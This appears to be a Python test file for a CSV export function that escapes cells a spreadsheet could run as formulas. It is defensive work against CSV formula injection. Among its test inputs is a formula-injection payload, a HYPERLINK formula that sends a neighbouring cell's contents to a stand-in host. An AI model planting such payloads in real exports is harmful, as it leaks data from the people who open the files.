"""The one CSV writer: every cell a spreadsheet could run as a formula is made text."""

from __future__ import annotations

import csv
import io

import pytest

from app.core.spreadsheet import csv_text, safe_cell

pytestmark = pytest.mark.nodb


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("http://x.example/?leak="&A2,"Klicka")',
            '\'=HYPERLINK("http://x.example/?leak="&A2,"Klicka")',
        ),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\n=1", "'\n=1"),
        ("＝1+1", "'＝1+1"),
        ("＠A1", "'＠A1"),
        ("Anna", "Anna"),
        ("", ""),
        (None, ""),
        ("a=b", "a=b"),
        (42, "42"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_csv_text_reads_back_with_every_cell_safe():
    text = csv_text(["namn", "ort"], [["=1+1", "Älvsjö"], ["Anna; Bertil", "-"]])
    assert text.startswith("\ufeff") and "\r\n" in text
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows == [["namn", "ort"], ["'=1+1", "Älvsjö"], ["Anna; Bertil", "'-"]]
